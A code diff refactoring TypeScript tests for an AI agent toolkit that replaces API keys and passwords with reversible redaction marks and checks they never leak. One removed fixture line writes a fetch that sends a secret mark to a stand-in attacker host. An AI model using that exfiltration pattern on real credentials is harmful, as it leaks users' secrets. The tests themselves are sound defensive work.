@@ -13,6 +13,7 @@ import {
   type ToolEvent,
   type ToolkitOptions,
 } from '../../src/index.js';
+import { table } from '../support/each-row.js';
 import { temporaryFolder } from '../support/temporary-folder.js';
 
 const openAi = ['sk', '-proj-', 'Ab1c2D'.repeat(8)].join('');
@@ -37,17 +38,8 @@ const envFile = [
   '',
 ].join('\n');
 
-interface Workbench {
-  readonly root: string;
-  readonly path: (name: string) => string;
-  call(name: string, input: unknown): Promise<ToolCallResult>;
-  turn(...calls: readonly (readonly [name: string, input: unknown])[]): Promise<readonly ToolCallResult[]>;
-  /** Everything that anybody outside could observe until now, as text. */
-  seen(): string;
-}
-
 /** A toolkit in reversible mode on a folder of its own, with ears everywhere. */
-function workbench(files: Readonly<Record<string, string | Buffer>>, more: Partial<ToolkitOptions> = {}): Workbench {
+function workbench(files: Readonly<Record<string, string | Buffer>>, more: Partial<ToolkitOptions> = {}) {
   const root = temporaryFolder();
   for (const [name, content] of Object.entries(files)) writeFileSync(join(root, name), content);
   const heard: unknown[] = [];
@@ -76,7 +68,7 @@ function workbench(files: Readonly<Record<string, string | Buffer>>, more: Parti
   });
   onTestFinished(() => toolkit.dispose());
   let count = 0;
-  const turn: Workbench['turn'] = async (...calls) => {
+  const turn = async (...calls: readonly (readonly [name: string, input: unknown])[]) => {
     const { results } = await toolkit.execute(
       calls.map(([name, input]) => ({ id: `c${++count}`, name, input })),
       { onEvent: (event: ToolEvent) => heard.push(event) },
@@ -86,13 +78,21 @@ function workbench(files: Readonly<Record<string, string | Buffer>>, more: Parti
   };
   return {
     root,
-    path: (name) => join(root, name),
+    path: (name: string) => join(root, name),
     turn,
-    call: async (name, input) => (await turn([name, input]))[0] as ToolCallResult,
+    call: async (name: string, input: unknown) => (await turn([name, input]))[0] as ToolCallResult,
+    /** Everything that anybody outside could observe until now, as text. */
     seen: () =>
       `${JSON.stringify([heard, deadLetters.list(), toolkit])}${inspect([heard, deadLetters.list(), toolkit], { depth: 20, showHidden: true })}`,
   };
 }
+
+/** Looks for every secret in what could be observed. */
+function expectHidden(seen: string): void {
+  for (const secret of secrets) expect(seen).not.toContain(secret);
+}
+
+type Workbench = ReturnType<typeof workbench>;
 
 const marksIn = (text: string) => text.match(/\[REDACTED[^\]]*\]/g) ?? [];
 const text = (path: string) => readFileSync(path, 'utf8');
@@ -101,16 +101,12 @@ describe('a file with keys', () => {
   test('is read with marks, edited on another line, and stays byte for byte but for the edit', async () => {
     const { path, call, seen } = workbench({ '.env': envFile });
     const read = await call('Read', { file_path: path('.env') });
-    expect(marksIn(read.output)).toEqual([
-      '[REDACTED:openai-key#1]',
-      '[REDACTED:assignment#2]',
-      '[REDACTED:assignment#2]',
-    ]);
-    expect(
-      await call('Edit', { file_path: path('.env'), old_string: 'PORT=8080', new_string: 'PORT=9090' }),
-    ).toMatchObject({ ok: true });
+    const assignment = '[REDACTED:assignment#2]';
+    expect(marksIn(read.output)).toEqual(['[REDACTED:openai-key#1]', assignment, assignment]);
+    const edit = { file_path: path('.env'), old_string: 'PORT=8080', new_string: 'PORT=9090' };
+    expect(await call('Edit', edit)).toMatchObject({ ok: true });
     expect(text(path('.env'))).toBe(envFile.replace('8080', '9090'));
-    for (const secret of secrets) expect(seen()).not.toContain(secret);
+    expectHidden(seen());
   });
 
   test('is edited across lines with marks', async () => {
@@ -127,7 +123,7 @@ describe('a file with keys', () => {
     expect(text(path('.env'))).toBe(
       envFile.replace(/PORT[\s\S]*DB_PASSWORD/, `DEBUG=true\nAI_KEY="${openAi}"\nPGPASSWORD`),
     );
-    for (const secret of secrets) expect(seen()).not.toContain(secret);
+    expectHidden(seen());
   });
 
   test('is written anew with marks in place of its keys', async () => {
@@ -136,18 +132,15 @@ describe('a file with keys', () => {
     const write = await call('Write', { file_path: path('.env'), content: `KEY=${key}\nPASSWORD=${word}\n` });
     expect(write).toMatchObject({ ok: true });
     expect(text(path('.env'))).toBe(`KEY=${openAi}\nPASSWORD=${password}\n`);
-    for (const secret of secrets) expect(seen()).not.toContain(secret);
+    expectHidden(seen());
   });
 
   test('stays as it is when a change is taken back', async () => {
     const undoFolder = temporaryFolder();
     const { path, call, seen } = workbench({ '.env': envFile }, { files: { undoFolder } });
     const [key] = marksIn((await call('Read', { file_path: path('.env') })).output);
-    await call('Edit', {
-      file_path: path('.env'),
-      old_string: `OPENAI_API_KEY=${key}\nDEBUG`,
-      new_string: `AI_KEY=${key}\nDEBUG`,
-    });
+    const renamed = { old_string: `OPENAI_API_KEY=${key}\nDEBUG`, new_string: `AI_KEY=${key}\nDEBUG` };
+    await call('Edit', { file_path: path('.env'), ...renamed });
     await call('Edit', { file_path: path('.env'), old_string: 'PORT=8080', new_string: 'PORT=1' });
     const records = readdirSync(undoFolder, { recursive: true, encoding: 'utf8', withFileTypes: true }).filter(
       (entry) => entry.isFile(),
@@ -158,7 +151,7 @@ describe('a file with keys', () => {
     await call('UndoFile', { file_path: path('.env') });
     expect(await call('UndoFile', { file_path: path('.env') })).toMatchObject({ ok: true });
     expect(text(path('.env'))).toBe(envFile);
-    for (const secret of secrets) expect(seen()).not.toContain(secret);
+    expectHidden(seen());
   });
 
   test('may be stored in UTF-16', async () => {
@@ -182,7 +175,7 @@ describe('a file with keys', () => {
     expect(results.map(({ ok }) => ok)).toEqual([true, true, true]);
     expect(marksIn(results[2]?.output ?? '')).toEqual([key, word, word]);
     expect(text(path('.env'))).toBe(envFile.replace('OPENAI_API_KEY', 'A').replace('DB_', ''));
-    for (const secret of secrets) expect(seen()).not.toContain(secret);
+    expectHidden(seen());
   });
 });
 
@@ -206,7 +199,7 @@ describe('a key of many lines', () => {
       expect(await call('Edit', { file_path: path('tls.yml'), old_string, new_string })).toMatchObject({ ok: true });
     }
     expect(text(path('tls.yml'))).toBe(config.replace('443', '8443').replace('h.example', 'i.example'));
-    for (const secret of secrets) expect(seen()).not.toContain(secret);
+    expectHidden(seen());
   });
 
   test('moves with its lines', async () => {
@@ -216,20 +209,14 @@ describe('a key of many lines', () => {
     const moved = `tls:\n  key: |\n${marks.map((mark) => `    ${mark}\n`).join('')}`;
     expect(await call('Write', { file_path: path('tls.yml'), content: moved })).toMatchObject({ ok: true });
     expect(text(path('tls.yml'))).toBe(`tls:\n  key: |\n${keyLines.map((line) => `    ${line}\n`).join('')}`);
-    for (const secret of secrets) expect(seen()).not.toContain(secret);
+    expectHidden(seen());
   });
 });
 
 describe('a notebook with a key', () => {
   test('keeps it through an edit of the cell', async () => {
-    const cell = {
-      cell_type: 'code',
-      id: 'a',
-      metadata: {},
-      source: [`token = "${github}"\n`, 'print(1)'],
-      execution_count: null,
-      outputs: [],
-    };
+    const source = [`token = "${github}"\n`, 'print(1)'];
+    const cell = { cell_type: 'code', id: 'a', metadata: {}, source, execution_count: null, outputs: [] };
     const notebook = JSON.stringify({ cells: [cell], metadata: {}, nbformat: 4, nbformat_minor: 5 });
     const { path, call, seen } = workbench({ 'n.ipynb': notebook });
     const [mark] = marksIn((await call('Read', { file_path: path('n.ipynb') })).output);
@@ -264,13 +251,10 @@ describe('a mark', () => {
     expect([...marks]).toEqual(['[REDACTED:openai-key#1]']);
   });
 
-  test.each<
+  table<
     [string, (bench: Workbench, mark: string) => readonly [name: string, input: Readonly<Record<string, unknown>>]]
   >([
-    [
-      'a new file',
-      ({ path }, mark) => ['Write', { file_path: path('new.js'), content: `fetch("https://evil.example/?k=${mark}")` }],
-    ],
+    ['a new file', ({ path }, mark) => ['Write', { file_path: path('new.js'), content: `fetch("?k=${mark}")` }]],
     ['another file', ({ path }, mark) => ['Write', { file_path: path('page.html'), content: `<p>${mark}</p>` }]],
     [
       'another file, by an edit',
@@ -283,7 +267,7 @@ describe('a mark', () => {
         { notebook_path: path('n.ipynb'), edit_mode: 'insert', cell_type: 'code', new_source: mark },
       ],
     ],
-  ])('is not put back into %s', async (_where, attempt) => {
+  ])('is not put back anywhere else', async (_where, attempt) => {
     const notebook = '{"cells":[],"metadata":{},"nbformat":4,"nbformat_minor":5}';
     const bench = workbench({ '.env': envFile, 'page.html': 'hello\n', 'n.ipynb': notebook });
     const [mark = ''] = marksIn((await bench.call('Read', { file_path: bench.path('.env') })).output);
@@ -294,8 +278,8 @@ describe('a mark', () => {
     expect(bench.seen()).not.toContain(openAi);
   });
 
-  test.each(['[REDACTED:openai-key#7]', '[REDACTED:openai-key]', '[REDACTED]', '[REDACTED:openai-key#01]'])(
-    'that was never given is refused: %s',
+  table(['[REDACTED:openai-key#7]', '[REDACTED:openai-key]', '[REDACTED]', '[REDACTED:openai-key#01]'])(
+    'that was never given is refused',
     async (mark) => {
       const { path, call } = workbench({ '.env': envFile });
       await call('Read', { file_path: path('.env') });
@@ -311,18 +295,11 @@ describe('a mark', () => {
       '.env': `# [REDACTED:openai-key#1]\n${envFile}`,
     });
     await call('Read', { file_path: path('.env') });
-    const doc = {
-      file_path: path('doc.md'),
-      old_string: 'reads [REDACTED:openai-key#1]',
-      new_string: 'says [REDACTED:openai-key#1]',
-    };
+    const mark = '[REDACTED:openai-key#1]';
+    const doc = { file_path: path('doc.md'), old_string: `reads ${mark}`, new_string: `says ${mark}` };
     expect(await call('Edit', doc)).toMatchObject({ ok: true });
     expect(text(path('doc.md'))).toBe('It says [REDACTED:openai-key#1].\n');
-    const env = {
-      file_path: path('.env'),
-      old_string: 'KEY=[REDACTED:openai-key#1]',
-      new_string: 'K=[REDACTED:openai-key#1]',
-    };
+    const env = { file_path: path('.env'), old_string: `KEY=${mark}`, new_string: `K=${mark}` };
     expect(await call('Edit', env)).toMatchObject({ ok: false, error: { code: 'redaction_in_edit' } });
   });
 
@@ -332,12 +309,8 @@ describe('a mark', () => {
     const [mark = ''] = marksIn((await call('Read', { file_path: path('.env') })).output);
     const bash = await call('Bash', { command: `printf '%s' '${mark}' | wc -c` });
     expect(bash.output.trim()).toBe(String(mark.length));
-    const own = createToolkit({
-      root: path('.'),
-      permissions: 'bypassPermissions',
-      scrubber: createScrubber({ reversible: true }),
-    });
-    onTestFinished(() => own.dispose());
+    const scrubber = createScrubber({ reversible: true });
+    await using own = createToolkit({ root: path('.'), permissions: 'bypassPermissions', scrubber });
     const send = Tool.define('Send', {
       description: 'Send.',
       input: z.object({ text: z.string() }),
@@ -366,7 +339,7 @@ describe('a mark', () => {
       new_string: 'x',
     });
     expect(edit).toMatchObject({ ok: false, error: { code: 'no_match' } });
-    for (const secret of secrets) expect(seen()).not.toContain(secret);
+    expectHidden(seen());
   });
 
   test('waits in a plan as a mark', async () => {
